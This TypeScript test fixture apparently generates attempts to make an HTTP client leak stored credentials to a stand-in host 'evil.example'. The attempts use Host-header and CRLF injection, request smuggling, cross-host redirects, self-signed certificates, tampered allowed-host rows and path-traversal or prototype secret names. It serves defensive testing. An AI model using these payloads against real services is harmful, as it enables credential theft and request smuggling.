// Everything that is tried to make a credential travel elsewhere: by address, by header, by answer, by moving what is
// stored.
import type { HttpRequest } from '@task-service/kit'
import type { SeededRandom } from '../../tests/harness/random/seeded-random.ts'
import { mixedUrls, type Ports, urlTricks } from './url-tricks.ts'

export type Group =
  | 'addresses'
  | 'mixed addresses'
  | 'headers'
  | 'redirects'
  | 'certificates'
  | 'moved secrets'
  | 'names'

export type Attempt = {
  group: Group
  what: string
  request: HttpRequest
  /** Allowed hosts of the stored row; by default only the vendor. */
  hosts?: string[]
  /** Where the sealed secret was taken from; by default it belongs to this integration. */
  sealedFor?: { tenantId?: string; integrationId?: string; field?: string; hosts?: string[] }
}

const ref = { secret: 'token' }

/** The four ways in which a secret gets into a request. */
const carriers: ((url: string) => HttpRequest)[] = [
  (url) => ({ method: 'GET', url, headers: { 'x-key': { ...ref, form: 'raw' } } }),
  (url) => ({ method: 'GET', url, headers: { authorization: { ...ref, form: 'bearer' } } }),
  (url) => ({ method: 'DELETE', url, headers: { a: { ...ref, form: 'basic', user: 'u' } } }),
  (url) => ({
    method: 'POST',
    url,
    body: { hook: { secret: '' } },
    bodySecrets: [{ path: ['hook', 'secret'], secret: ref }],
  }),
]

export function makeAttempts(ports: Ports, random: SeededRandom, mixed: number): Attempt[] {
  const urls = urlTricks(ports)
  return [
    ...urls.flatMap((url) => carriers.map((carry) => byAddress(url, carry))),
    ...mixedUrls(ports, random, mixed).map((url, index) => ({
      ...byAddress(url, carriers[index % carriers.length] ?? byName('token')),
      group: 'mixed addresses' as const,
    })),
    ...byHeaders(ports),
    ...byRedirects(ports),
    ...byCertificates(ports),
    ...byMovedSecrets(ports),
    ...byNames(ports),
  ]
}

/** What has to arrive, at the vendor. */
export function makeLegal({ vendor }: Ports): Attempt[] {
  const base = `http://vendor.example:${vendor}`
  const urls = ['', '/', '/a?b=http://evil.example/', '/@evil.example', '/a//b', '/#x']
  const upper = base.replace('vendor.example', 'VENDOR.example')
  return [...urls.map((path) => `${base}${path}`), `${upper}/`].flatMap((url) =>
    carriers.map((carry) => byAddress(url, carry)),
  )
}

const byAddress = (url: string, carry: (url: string) => HttpRequest): Attempt => ({
  group: 'addresses',
  what: url,
  request: carry(url),
})

function byHeaders({ vendor }: Ports): Attempt[] {
  const url = `http://vendor.example:${vendor}/`
  const evil = `evil.example:${vendor}`
  const secret = { ...ref, form: 'raw' } as const
  const headers: HttpRequest['headers'][] = [
    ...['host', 'Host', 'HOST', 'host ', ' host', ':authority'].map((name) => ({ [name]: evil })),
    { host: { ...secret, prefix: evil } },
    { 'x-a': `1\r\nHost: ${evil}` },
    { 'x-a': `1\nHost: ${evil}` },
    { 'x-a\r\nHost': evil },
    {
      'x-a': {
        ...secret,
        prefix: `1\r\n\r\nGET http://${evil}/ HTTP/1.1\r\nHost: ${evil}\r\nx-key: `,
      },
    },
    { connection: 'upgrade', upgrade: 'h2c' },
    { 'transfer-encoding': 'chunked' },
    { 'content-length': '0' },
    { expect: '100-continue' },
    { te: 'trailers', trailer: 'x-key' },
    { 'proxy-authorization': { ...secret } },
    { 'proxy-connection': 'keep-alive' },
    { 'http2-settings': 'AAMAAABk' },
    { 'x-forwarded-host': evil, 'x-original-url': `http://${evil}/`, forwarded: `host=${evil}` },
  ]
  return headers.map((one) => ({
    group: 'headers',
    what: JSON.stringify(one),
    request: {
      method: 'POST',
      url,
      headers: { 'x-key': secret, ...one },
      body: `GET http://${evil}/`,
    },
  }))
}

function byRedirects({ vendor, other }: Ports): Attempt[] {
  const targets = [
    `http://evil.example:${vendor}/`,
    `//evil.example:${vendor}/`,
    `http://vendor.example:${other}/`,
    `\\\\evil.example:${vendor}/`,
    `http://vendor.example:${vendor}@evil.example:${vendor}/`,
  ]
  return [300, 301, 302, 303, 305, 307, 308, 401].flatMap((status) =>
    targets.map((target, index) => ({
      group: 'redirects' as const,
      what: `${status} to ${target}`,
      request: (carriers[index % carriers.length] ?? byName('token'))(
        `http://vendor.example:${vendor}/to/${status}/${encodeURIComponent(target)}`,
      ),
    })),
  )
}

/** The name is the vendor's, but the server behind it has another certificate. */
const byCertificates = ({ tls }: Ports): Attempt[] =>
  ['secure.example', '127.0.0.2'].flatMap((host) =>
    carriers.map((carry) => ({
      group: 'certificates' as const,
      what: `${host} with a self-signed certificate`,
      request: carry(`https://${host}:${tls}/`),
      hosts: [`${host}:${tls}`],
      sealedFor: { hosts: [`${host}:${tls}`] },
    })),
  )

/** An attacker with write access to the table changes the columns next to a secret, or moves the secret. */
function byMovedSecrets({ vendor, other }: Ports): Attempt[] {
  const own = `http://vendor.example:${vendor}`
  const evil = `http://evil.example:${vendor}`
  const rows: Pick<Attempt, 'what' | 'hosts' | 'sealedFor'>[] = [
    { what: 'the host replaced', hosts: [evil] },
    { what: 'a host added', hosts: [own, evil] },
    { what: 'a host put first', hosts: [evil, own] },
    { what: 'many hosts', hosts: [evil, own, 'a.example', 'b.example'] },
    { what: 'sealed for none', hosts: [evil], sealedFor: { hosts: [] } },
    {
      what: 'sealed for a beginning',
      hosts: [evil],
      sealedFor: { hosts: ['http://evil.example'] },
    },
    {
      what: 'sealed for a port',
      hosts: [evil],
      sealedFor: { hosts: [`http://evil.example:${other}`] },
    },
    { what: 'sealed for https', hosts: [evil], sealedFor: { hosts: [`evil.example:${vendor}`] } },
    { what: 'sealed as one text', hosts: [evil, own], sealedFor: { hosts: [`${evil},${own}`] } },
    { what: 'of another tenant', hosts: [evil], sealedFor: { tenantId: 'b', hosts: [evil] } },
    {
      what: 'of another integration',
      hosts: [evil],
      sealedFor: { integrationId: 'int_2', hosts: [evil] },
    },
    { what: 'of another field', hosts: [evil], sealedFor: { field: 'webhook', hosts: [evil] } },
  ]
  return rows.flatMap((row) =>
    carriers.map((carry) => ({
      group: 'moved secrets' as const,
      ...row,
      request: carry(`${evil}/`),
    })),
  )
}

const byName =
  (secret: string) =>
  (url: string): HttpRequest => ({
    method: 'GET',
    url,
    headers: { 'x-key': { secret, form: 'raw' } },
  })

/** At the integration's own host, by the name of another owner's secret. */
const byNames = ({ vendor }: Ports): Attempt[] =>
  [
    '',
    'Token',
    'token ',
    'webhook',
    'int_2.token',
    '../int_2/token',
    '__proto__',
    'constructor',
    '*',
    'toString',
  ].map((name) => ({
    group: 'names',
    what: `the secret ${JSON.stringify(name)}`,
    request: byName(name)(`http://evil.example:${vendor}/`),
    hosts: [`http://evil.example:${vendor}`],
    sealedFor: { hosts: [`http://evil.example:${vendor}`] },
  }))
